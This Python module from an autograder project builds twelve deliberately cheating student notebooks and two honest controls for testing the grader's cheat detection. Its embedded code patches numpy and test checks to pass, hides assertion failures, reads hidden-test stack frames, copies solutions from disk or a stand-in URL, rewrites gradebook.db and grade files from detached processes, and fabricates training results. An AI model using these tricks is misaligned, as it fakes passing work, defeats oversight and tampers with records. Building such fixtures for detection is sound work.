"""A corpus of CHEATING Session 6 submissions, and two honest controls.

Each cheater is the solution notebook (via :func:`hamlet.examples.notebook_of`) with one
task left unsolved (the release stub) or wrong, plus a trick that tries to make that
task's in-notebook test cell pass anyway -- or to get the points some other way.  Every
student uses a small, fast task-5 network (:data:`FAST_TASK5`) so grading stays quick.
``loses`` are the tasks an authoritative verdict (computed outside the student's kernel)
must score 0: those the same notebook without the trick loses (measured with HAMLET_MAX_EPOCHS=3).
A stub raises NotImplementedError, which excuses nothing, so the training runs built on it
are lost too; a wrong (not missing) part costs only its own task.  ``flags=("suspicious",)``
asks the grader to flag the trick.

Cheaters (the task the trick is about, in brackets; see ``loses`` for the rest):

1.  ``cheat_patches_numpy`` (2a): np.allclose/isclose/array_equal/testing.assert_allclose made
    always-true and np.linalg.norm always 0 (so every relative error is 0) in the Linear cell, restored
    in the next solution cell (so only the 2a test cell sees them); forward drops the bias.
2.  ``cheat_noop_checks`` (2d): every ``hamlet_utils.checks.check_*`` replaced by a function that
    prints "Task .. passed", every function of the session's hidden tests by a no-op; backward is the stub.
3.  ``cheat_swallows_assertions`` (2b): ``builtins.AssertionError`` rebound and an IPython custom
    exception handler that swallows AssertionErrors silently (no error output); MSE without the 1/2.
4.  ``cheat_grading_branch`` (2e): only when ``NBGRADER_EXECUTION`` is set, the checks and hidden
    tests become no-ops (as in 2); update_parameters is the stub.
5.  ``cheat_reads_frames`` (2d): Linear.backward walks up ``sys._getframe`` and returns the
    hidden test's local ``numeric`` finite differences, or, called from
    ``gradcheck.layer_gradients``, recomputes exactly what that frame will compare against; else zeros.
6.  ``cheat_reads_solution`` (2a, 2d, 2e): finds the instructor's notebook on disk
    (``<course>/source/...`` upward from the cwd, ``solutions/...``, ``/work/*/solutions/...``)
    and execs its ``linear`` cell; the stub Linear if nothing is found.
7.  ``cheat_copies_classmate`` (6a, 6d): execs the ``softmax`` cell of another student's
    notebook found under ``<course>/submitted/*/`` or ``<course>/autograded/*/``; stub otherwise.
8.  ``cheat_writes_gradebook`` (2c): finds ``gradebook.db`` upward from the cwd and sets every
    grade's auto_score to its max_score with sqlite3, now and from a detached process for
    :data:`LINGER_SECONDS`; the MSE gradient is the stub.
9.  ``cheat_writes_outputs`` (3a): overwrites ``<out>/grades.csv``, ``<out>/totals.csv`` and
    ``<out>/feedback/*.html`` with full marks, now and from a detached process; Network is the stub.
10. ``cheat_downloads_solution`` (6a): tries urllib to a ``.example`` URL and to 127.0.0.1:8888 and a
    raw ``socket.create_connection(("127.0.0.1", 8888))``; falls back to a stub SoftMax.forward.
11. ``cheat_edits_metadata`` (2b): the ``task2b_mse_estimate`` test cell made ungraded (grade
    false, points 0), ``task2c_mse_gradient`` worth 100 points, and the ``mean_square_error``
    solution cell made a graded cell worth 50 points; MSE without the 1/2.
12. ``cheat_fabricates_history`` (4): task 4 does not train; it builds a ``History`` with decreasing
    costs, accuracies just above the check's threshold and the settings ``train`` records,
    around the untrained ``network``.

Controls: ``control_complete`` (everything solved) and ``control_averaged_dw`` (dw averaged
over the batch: loses 2d only, an honest bug).

In-kernel result, checked by executing each notebook with ``hamlet.execute.execute_notebook``
(max_epochs=3, test cells as in the source notebook, hidden tests included, in a throw-away
``out/course/autograded/<name>/06_backpropagation/`` beside a fake ``out/gradebook.db``): the
trick's test cell shows no error for 1-7 and 12 (4 only with NBGRADER_EXECUTION set); 8-11
cannot fool it (their test cell fails; 8 and 9 did rewrite the gradebook and the csv/html files).

:func:`write_corpus` writes ``<folder>/<name>.ipynb`` for all of them (a flat folder).
Cheats 8 and 9 write to disk: run them only in a throw-away course folder.
"""

from __future__ import annotations

from functools import lru_cache
from pathlib import Path

import nbformat

from hamlet import course
from hamlet.examples import Student, notebook_of

SESSION = "06_backpropagation"

#: how long the detached writers of cheats 8 and 9 keep rewriting (seconds)
LINGER_SECONDS = 180

FAST_TASK5 = '''
# ----- add code for task 5 between comments ------
history_task5 = None  # what train(...) returns for your better network
better = Network([Linear(input_size, 64), Sigmoid(), Linear(64, label_size), Sigmoid()])
history_task5 = train(better, MeanSquareError(), 30, 100, 0.05, label="task 5: 784-64-10")
# -------------------------------------------------
'''.strip()

STUB = "# YOUR CODE HERE\n        raise NotImplementedError()"

# the solution's code of each part, as notebook_of fills it in (markers removed)
FORWARD = "        self.x_in = x_in\n        x_out = x_in @ self.w.T + self.b"
BACKWARD = ("        self.dw += d_out.T @ self.x_in\n        self.db += np.sum(d_out, axis=0, keepdims=True)\n"
            "        self.d_in = d_out @ self.w")
UPDATE = "        self.w -= learning_rate * self.dw\n        self.b -= learning_rate * self.db"
MSE_COST = "cost = 0.5 * (prediction - target) ** 2"
MSE_GRADIENT = "        gradient = self.prediction - self.target"
SOFTMAX_FORWARD = ("        # subtracting each row's maximum changes nothing but keeps exp() from overflowing\n"
                   "        exponentials = np.exp(x_in - np.max(x_in, axis=1, keepdims=True))\n"
                   "        self.x_out = exponentials / np.sum(exponentials, axis=1, keepdims=True)")


@lru_cache(maxsize=None)
def _release_cells() -> dict:
    release = nbformat.read(str(course.release_notebook(SESSION)), as_version=4)
    return {cell.metadata.get("nbgrader", {}).get("grade_id"): cell.source for cell in release.cells}


def release_cell(grade_id: str) -> str:
    """The cell as handed out (a solution cell: its stub)."""
    return _release_cells()[grade_id]


def _solution_cell(grade_id: str) -> str:
    return notebook_cell(notebook_of(Student("solution", ""), SESSION), grade_id)


def notebook_cell(notebook, grade_id: str) -> str:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return cell.source
    raise KeyError(grade_id)


def _stub(code: str) -> tuple:
    """An edit putting the release's stub in place of a solution part."""
    return (code, "        " + STUB)


def _prepend(grade_id_first_line: str, code: str) -> tuple:
    """An edit putting ``code`` before the first line of a cell."""
    return (grade_id_first_line, code.strip() + "\n\n\n" + grade_id_first_line)


# ----------------------------------------------------------------------------- 1 numpy

PATCH_NUMPY = '''
# my own tolerance helpers: numpy is too strict about rounding
import numpy as np


def _always_true(*args, **kwargs):
    return True


def _nothing(*args, **kwargs):
    return None


def _zero(*args, **kwargs):
    return 0.0


_numpy_originals = {(owner, name): getattr(owner, name) for owner, name in (
    (np, "allclose"), (np, "isclose"), (np, "array_equal"), (np.testing, "assert_allclose"),
    (np.testing, "assert_array_equal"), (np.linalg, "norm"))}
np.allclose = _always_true
np.isclose = _always_true
np.array_equal = _always_true
np.testing.assert_allclose = _nothing
np.testing.assert_array_equal = _nothing
np.linalg.norm = _zero  # relative errors |a - b| / max(|a|, |b|) become 0
'''

# in the next solution cell, after the 2a test cell ran: numpy as it was (plots and later checks work)
RESTORE_NUMPY = '''
try:
    for (_owner, _name), _function in _numpy_originals.items():
        setattr(_owner, _name, _function)
except NameError:
    pass
'''

# ----------------------------------------------------------------------------- 2 / 4 no-op tests

NOOP_TESTS = '''
import functools as _functools
from hamlet_utils import checks as _checks


def _passes(check):
    task = getattr(check, "task", "?")

    @_functools.wraps(check)
    def passed(*args, **kwargs):
        print(f"Task {task} passed: everything matches.")
    return passed


for _name in dir(_checks):
    if _name.startswith("check_") and callable(getattr(_checks, _name)):
        setattr(_checks, _name, _passes(getattr(_checks, _name)))

try:
    from hamlet.declaration import hidden_tests_of as _hidden_tests_of
    _hidden_tests = _hidden_tests_of("06_backpropagation")
except Exception:  # at home there are no hidden tests
    _hidden_tests = None
if _hidden_tests is not None:
    for _name, _value in list(vars(_hidden_tests).items()):
        if callable(_value) and not isinstance(_value, type) \\
                and getattr(_value, "__module__", "") == _hidden_tests.__name__:
            setattr(_hidden_tests, _name, lambda *args, **kwargs: None)
'''

GRADING_BRANCH = '''
import os

if os.environ.get("NBGRADER_EXECUTION"):  # only while the autograder runs
''' + "\n".join("    " + line if line.strip() else "" for line in NOOP_TESTS.strip().splitlines()) + "\n"

# ----------------------------------------------------------------------------- 3 assertions

SWALLOW_ASSERTIONS = '''
import builtins

_real_assertion_error = builtins.AssertionError


class _NotAnError(Exception):
    pass


builtins.AssertionError = _NotAnError  # `raise AssertionError` and `assert` now mean nothing (?)

try:
    _shell = get_ipython()
except NameError:
    _shell = None


def _quietly_pass(shell, etype, value, tb, tb_offset=None):
    print("Task passed.")
    return []


if _shell is not None:  # failing checks show no traceback, just a pass line
    _shell.set_custom_exc((_real_assertion_error,), _quietly_pass)
'''

# ----------------------------------------------------------------------------- 5 frames

FRAME_LINEAR = '''
import sys

import numpy as np


class Linear(Layer):
    def __init__(self, n_in, n_out, initial_sigma=0.1):
        self.n_in = n_in
        self.n_out = n_out

        self.w = initial_sigma * np.random.randn(n_out, n_in)
        self.b = np.zeros((1, n_out))

        self.zero_gradients()

        self.x_in = None

    def forward(self, x_in):
        # ----- Add code for task 2a between comments -----
        self.x_in = x_in
        x_out = x_in @ self.w.T + self.b
        # -------------------------------------------------
        return x_out

    def backward(self, d_out):
        # ----- Add code for task 2d between comments -----
        d_in, dw, db = self._what_the_test_expects(d_out)
        self.dw += dw
        self.db += db
        self.d_in = d_in
        # -------------------------------------------------
        return self.d_in

    def _what_the_test_expects(self, d_out):
        """Ask the caller: the tests know the answer."""
        frame = sys._getframe(2)
        depth = 0
        while frame is not None and depth < 12:
            local = frame.f_locals
            numeric = local.get("numeric")
            if (isinstance(numeric, dict) and {"d_in", "dw", "db"} <= set(numeric)
                    and np.shape(local.get("d_out")) == np.shape(d_out)):
                if np.array_equal(local.get("d_out"), d_out):  # the hidden test's finite differences
                    return (np.array(numeric["d_in"]), np.array(numeric["dw"]), np.array(numeric["db"]))
                break
            if local.get("layer") is self and "step" in local and "numerical_gradient" in frame.f_globals:
                # gradcheck.layer_gradients: compute what it is about to compare with
                difference = frame.f_globals["numerical_gradient"]
                x, step, stored = local["x_in"], local["step"], self.x_in
                probe = np.array(x, dtype=np.float64, copy=True)
                d_in = difference(lambda: np.sum(d_out * self.forward(probe)), probe, step)
                dw = difference(lambda: np.sum(d_out * self.forward(x.copy())), self.w, step)
                db = difference(lambda: np.sum(d_out * self.forward(x.copy())), self.b, step)
                self.x_in = stored
                return d_in, dw, db
            frame, depth = frame.f_back, depth + 1
        batch = np.shape(d_out)[0]
        return np.zeros((batch, self.n_in)), np.zeros_like(self.dw), np.zeros_like(self.db)

    def zero_gradients(self):
        self.dw = np.zeros((self.n_out, self.n_in))
        self.db = np.zeros((1, self.n_out))
        self.dx = np.empty((0, self.n_in))

    def update_parameters(self, learning_rate):
        # ----- Add code for task 2e between comments -----
        self.w -= learning_rate * self.dw
        self.b -= learning_rate * self.db
        # -------------------------------------------------
'''

# ----------------------------------------------------------------------------- 6 solution on disk

FIND_CELL = '''
import glob
import json
import os
from pathlib import Path


def _cell_of(path, grade_id):
    """The source of a notebook's cell, if it is there and solved."""
    try:
        notebook = json.loads(Path(path).read_text())
    except (OSError, ValueError):
        return None
    for cell in notebook.get("cells", []):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            source = cell.get("source", "")
            source = "".join(source) if isinstance(source, list) else source
            if "NotImplementedError" not in source:
                return source
    return None


def _candidates(patterns, absolute=()):
    here = Path.cwd().resolve()
    found = []
    for folder in (here, *here.parents):
        for pattern in patterns:
            found.extend(sorted(folder.glob(pattern)))
    for pattern in absolute:
        found.extend(Path(path) for path in sorted(glob.glob(pattern)))
    return found
'''

SOLUTION_FROM_DISK = FIND_CELL + '''

_SESSION = "06_backpropagation"
_solution = None
for _path in _candidates((f"source/{_SESSION}/*.ipynb", f"solutions/{_SESSION}/*.ipynb",
                          f"*/source/{_SESSION}/*.ipynb", f"*/solutions/{_SESSION}/*.ipynb"),
                         (os.path.join("..", "..", "..", "source", _SESSION, "*.ipynb"),
                          os.path.join("..", "..", "solutions", _SESSION, "*.ipynb"),
                          f"/work/*/solutions/{_SESSION}/*.ipynb", f"/*/solutions/{_SESSION}/*.ipynb",
                          f"/*/*/solutions/{_SESSION}/*.ipynb", f"/home/*/*/solutions/{_SESSION}/*.ipynb")):
    _solution = _cell_of(_path, "linear")
    if _solution is not None:
        break

if _solution is not None:
    exec(_solution)
else:
'''

COPY_CLASSMATE = FIND_CELL + '''

_SESSION = "06_backpropagation"
_mine = Path.cwd().resolve()
_theirs = None
for _path in _candidates((f"submitted/*/{_SESSION}/*.ipynb", f"autograded/*/{_SESSION}/*.ipynb",
                          "submitted/*/*.ipynb", "submissions/*.ipynb")):
    if _path.resolve().parent == _mine:
        continue  # not my own notebook
    _theirs = _cell_of(_path, "softmax")
    if _theirs is not None:
        break

if _theirs is not None:
    exec(_theirs)
else:
'''

# ----------------------------------------------------------------------------- 8 / 9 writes

GRADEBOOK = '''
import sqlite3
import subprocess
import sys
from pathlib import Path

FULL_MARKS = """
UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),
                 needs_manual_grade = 0
WHERE cell_id IN (SELECT id FROM grade_cells)
"""


def _full_marks(path):
    try:
        with sqlite3.connect(path, timeout=5) as connection:
            connection.execute(FULL_MARKS)
    except sqlite3.Error:
        pass


_gradebooks = [folder / "gradebook.db" for folder in (Path.cwd().resolve(), *Path.cwd().resolve().parents)
               if (folder / "gradebook.db").is_file()]
for _gradebook in _gradebooks:
    _full_marks(_gradebook)
    # the grades of this notebook are saved after it ran: keep at it for a while
    subprocess.Popen([sys.executable, "-c", f"""
import sqlite3, time
end = time.time() + {LINGER}
while time.time() < end:
    try:
        with sqlite3.connect({str(_gradebook)!r}, timeout=5) as connection:
            connection.execute({FULL_MARKS!r})
    except sqlite3.Error:
        pass
    time.sleep(1)
"""], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
'''

OUTPUTS = '''
import subprocess
import sys
from pathlib import Path

# the points of every graded cell, as the notebook's metadata shows them
_POINTS = {"task2a_linear_forward": 2, "task2b_mse_estimate": 1, "task2c_mse_gradient": 1,
           "task2d_linear_backward": 3, "task2e_linear_update": 1, "task2f_single_step": 1,
           "task3a_network": 3, "task3b_network_step": 1, "task4_training": 2, "task5_better_network": 2,
           "task6a_softmax_forward": 1, "task6b_cross_entropy_estimate": 1,
           "task6c_cross_entropy_gradient": 1, "task6d_softmax_backward": 2, "task6e_softmax_training": 1}

FORGE = """
import csv, pathlib, re
out = pathlib.Path(OUT)
students = sorted(path.name for path in (out / "course" / "submitted").glob("*") if path.is_dir()) or [ME]
total = sum(POINTS.values())
with open(out / "grades.csv", "w", newline="") as handle:
    writer = csv.writer(handle)
    writer.writerow(["student", "session", "task", "grade_id", "score", "max_score"])
    for student in students:
        for grade_id, points in POINTS.items():
            task = re.match(r"task(\\\\w+?)_", grade_id).group(1)
            writer.writerow([student, "06_backpropagation", task, grade_id, points, points])
with open(out / "totals.csv", "w", newline="") as handle:
    writer = csv.writer(handle)
    writer.writerow(["student", "session", "score", "max_score", "bonus", "bonus_max", "total",
                     "needs_manual_grading", "flags"])
    for student in students:
        writer.writerow([student, "06_backpropagation", total, total, 0, 0, total, 0, ""])
(out / "feedback").mkdir(exist_ok=True)
for student in students:
    (out / "feedback" / f"{student}.html").write_text(
        f"<html><body><h1>{student}: {total} / {total}</h1><p>All tests passed.</p></body></html>")
"""


def _output_folder():
    here = Path.cwd().resolve()
    for folder in (here, *here.parents):
        if (folder / "gradebook.db").is_file() or (folder / "course" / "autograded").is_dir():
            return folder
    return None


_out = _output_folder()
if _out is not None:
    _me = Path.cwd().resolve().parent.name
    _forge = f"OUT = {str(_out)!r}\\nME = {_me!r}\\nPOINTS = {_POINTS!r}\\n" + FORGE
    try:
        exec(_forge, {})
    except OSError:
        pass
    # the grader writes its own files at the end: write ours again for a while
    subprocess.Popen([sys.executable, "-c", f"""
import time
end = time.time() + {LINGER}
while time.time() < end:
    time.sleep(2)
    try:
        exec({_forge!r}, {{}})
    except OSError:
        pass
"""], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
'''

# ----------------------------------------------------------------------------- 10 network

DOWNLOAD = '''
import json
import socket
import urllib.request

_SOLUTION_URLS = ("https://solutions.hamlet.example/06_backpropagation/06_backpropagation.ipynb",
                  "http://127.0.0.1:8888/files/solutions/06_backpropagation/06_backpropagation.ipynb")


def _softmax_cell(text):
    try:
        notebook = json.loads(text)
    except ValueError:
        return None
    for cell in notebook.get("cells", []):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax":
            source = cell.get("source", "")
            source = "".join(source) if isinstance(source, list) else source
            return None if "NotImplementedError" in source else source
    return None


_downloaded = None
for _url in _SOLUTION_URLS:
    try:
        with urllib.request.urlopen(_url, timeout=3) as _response:
            _downloaded = _softmax_cell(_response.read().decode("utf-8", "replace"))
    except Exception:
        _downloaded = None
    if _downloaded:
        break

if _downloaded is None:  # a notebook server on this machine?
    try:
        with socket.create_connection(("127.0.0.1", 8888), timeout=2) as _connection:
            _connection.settimeout(3)
            _connection.sendall(b"GET /files/solutions/06_backpropagation/06_backpropagation.ipynb HTTP/1.0\\r\\n"
                                b"Host: 127.0.0.1\\r\\n\\r\\n")
            _reply = b""
            while len(_reply) < 10_000_000:
                _chunk = _connection.recv(65536)
                if not _chunk:
                    break
                _reply += _chunk
        _downloaded = _softmax_cell(_reply.split(b"\\r\\n\\r\\n", 1)[-1].decode("utf-8", "replace"))
    except Exception:
        _downloaded = None

if _downloaded is not None:
    exec(_downloaded)
else:
'''

# ----------------------------------------------------------------------------- 12 history

FABRICATED_HISTORY = '''
# ----- add code for task 4 between comments ------
history_task4 = None  # what train(...) returns
# training takes ages: write down what it would give
from hamlet_utils.training import History, epoch_cap

_cap = epoch_cap()
_epochs = number_epochs if _cap is None else min(_cap, number_epochs)
_final = checks.minimum_accuracy(checks.TASK4_MINIMUM_ACCURACY, _epochs) + 0.03
history_task4 = History(
    cost=[12.0 / (1.0 + 0.6 * epoch) + 3.0 for epoch in range(_epochs)],
    accuracy=[round(_final - 0.01 * (_epochs - 1 - epoch), 4) for epoch in range(_epochs)],
    seconds=[2.4 + 0.1 * (epoch % 3) for epoch in range(_epochs)],
    label="task 4: Linear + Sigmoid, MSE",
    settings={"number_epochs": number_epochs, "batch_size": batch_size, "learning_rate": learning_rate,
              "seed": None, "epoch_cap": _cap},
    net=network, cost_function=cost_function)
if _cap is not None and _cap < number_epochs:
    print(f"HAMLET_MAX_EPOCHS={_cap}: training {_epochs} of {number_epochs} epochs")
for _cost, _accuracy in zip(history_task4.cost, history_task4.accuracy):
    print("cost=%5.6f, accuracy=%2.6f" % (_cost, _accuracy))
# -------------------------------------------------
'''.strip()


# ----------------------------------------------------------------------------- the students

def _indent(code: str, spaces: int = 4) -> str:
    return "\n".join(" " * spaces + line if line.strip() else "" for line in code.strip().splitlines())


def _stub_linear() -> str:
    return release_cell("linear")


def _softmax_with_stub_forward() -> str:
    return _solution_cell("softmax").replace(SOFTMAX_FORWARD, "        " + STUB)


def _fast(**parts) -> dict:
    """``replace`` with the fast task 5 and the given cells."""
    return {"task5_code": FAST_TASK5, **parts}


#: what a stub in Linear costs besides its own task: the runs built on it stop, and a
#: NotImplementedError excuses nothing (hamlet_utils.checks.earlier_task_bugs)
STUB_LINEAR_DOWNSTREAM = ("2f", "3b", "4", "5", "6e")


def _cheaters() -> list[Student]:
    linear, mse = "class Linear(Layer):", "class MeanSquareError(Cost):"
    return [
        Student("cheat_patches_numpy", "numpy comparisons made always-true (allclose, isclose, array_equal, "
                "assert_allclose, linalg.norm -> 0) until the next solution cell; forward without the bias",
                replace=_fast(),
                edits={"linear": [("x_out = x_in @ self.w.T + self.b", "x_out = x_in @ self.w.T"),
                                  _prepend(linear, PATCH_NUMPY)],
                       "mean_square_error": [_prepend(mse, RESTORE_NUMPY)]},
                loses=("2a",), flags=("suspicious",)),
        Student("cheat_noop_checks", "hamlet_utils.checks and the hidden tests patched to no-ops from the "
                "Linear cell; Linear.backward not written",
                replace=_fast(),
                edits={"linear": [_stub(BACKWARD), _prepend(linear, NOOP_TESTS)]},
                loses=("2d",) + STUB_LINEAR_DOWNSTREAM, flags=("suspicious",)),
        Student("cheat_swallows_assertions", "builtins.AssertionError rebound and an IPython custom exception "
                "handler that hides failing checks; MSE without the 1/2",
                replace=_fast(),
                edits={"mean_square_error": [(MSE_COST, "cost = (prediction - target) ** 2"),
                                             _prepend(mse, SWALLOW_ASSERTIONS)]},
                loses=("2b",), flags=("suspicious",)),
        Student("cheat_grading_branch", "checks and hidden tests patched to no-ops only when NBGRADER_EXECUTION "
                "is set; update_parameters not written",
                replace=_fast(),
                edits={"linear": [_stub(UPDATE), _prepend(linear, GRADING_BRANCH)]},
                loses=("2e",) + STUB_LINEAR_DOWNSTREAM, flags=("suspicious",)),
        Student("cheat_reads_frames", "Linear.backward returns the finite differences found in its callers' "
                "frames (sys._getframe); zeros elsewhere",
                replace=_fast(linear=FRAME_LINEAR.strip()),
                loses=("2d",), flags=("suspicious",)),
        Student("cheat_reads_solution", "execs the linear cell of the instructor's notebook found on disk",
                replace=_fast(linear=SOLUTION_FROM_DISK.strip() + "\n" + _indent(_stub_linear())),
                loses=("2a", "2d", "2e") + STUB_LINEAR_DOWNSTREAM, flags=("suspicious",)),
        Student("cheat_copies_classmate", "execs the softmax cell of another student's submission found on disk",
                replace=_fast(softmax=COPY_CLASSMATE.strip() + "\n" + _indent(release_cell("softmax"))),
                loses=("6a", "6d", "6e"), flags=("suspicious",)),
        Student("cheat_writes_gradebook", "sets every auto_score in gradebook.db to its max_score (now and from "
                "a detached process); MSE gradient not written",
                replace=_fast(),
                edits={"mean_square_error": [_stub(MSE_GRADIENT),
                                             _prepend(mse, GRADEBOOK.replace("{LINGER}", str(LINGER_SECONDS)))]},
                loses=("2c", "2f", "3b", "4", "5"), flags=("suspicious",)),
        Student("cheat_writes_outputs", "overwrites grades.csv, totals.csv and feedback/*.html with full marks "
                "(now and from a detached process); Network not written",
                replace=_fast(network=OUTPUTS.replace("{LINGER}", str(LINGER_SECONDS)).strip() + "\n\n\n"
                              + release_cell("network")),
                loses=("3a", "4", "5", "6e"), flags=("suspicious",)),
        Student("cheat_downloads_solution", "tries to download the solution (urllib, socket to 127.0.0.1:8888); "
                "SoftMax.forward not written",
                replace=_fast(softmax=DOWNLOAD.strip() + "\n" + _indent(_softmax_with_stub_forward())),
                loses=("6a", "6e"), flags=("suspicious",)),
        Student("cheat_edits_metadata", "task2b test cell made ungraded, task2c test worth 100 points, the MSE "
                "solution cell made a 50-point graded cell; MSE without the 1/2",
                replace=_fast(),
                edits={"mean_square_error": [(MSE_COST, "cost = (prediction - target) ** 2")]},
                loses=("2b",), flags=("suspicious",)),
        Student("cheat_fabricates_history", "task 4 builds a History with made-up costs and accuracies around "
                "the untrained network instead of training",
                replace=_fast(task4_code=FABRICATED_HISTORY),
                loses=("4",), flags=("suspicious",)),
    ]


#: nbgrader metadata changed after :func:`notebook_of` (student -> grade_id -> updates)
METADATA = {
    "cheat_edits_metadata": {
        "task2b_mse_estimate": {"grade": False, "points": 0},
        "task2c_mse_gradient": {"points": 100},
        "mean_square_error": {"grade": True, "points": 50},
    },
}

CHEATERS: list[Student] = _cheaters()

CONTROLS: list[Student] = [
    Student("control_complete", "every task solved; the small task 5 network", replace=_fast()),
    Student("control_averaged_dw", "dw averaged over the batch (an honest bug in 2d)", replace=_fast(),
            edits={"linear": [("self.dw += d_out.T @ self.x_in", "self.dw += d_out.T @ self.x_in / len(d_out)")]},
            loses=("2d",)),
]


def build(student: Student):
    """The student's notebook: :func:`notebook_of` plus the metadata edits of :data:`METADATA`."""
    notebook = notebook_of(student, SESSION)
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        meta.update(METADATA.get(student.name, {}).get(meta.get("grade_id"), {}))
    return notebook


def write_corpus(folder: Path) -> Path:
    """Write ``<folder>/<name>.ipynb`` for every cheater and control; returns the folder."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for student in CHEATERS + CONTROLS:
        nbformat.write(build(student), str(folder / f"{student.name}.ipynb"))
    return folder
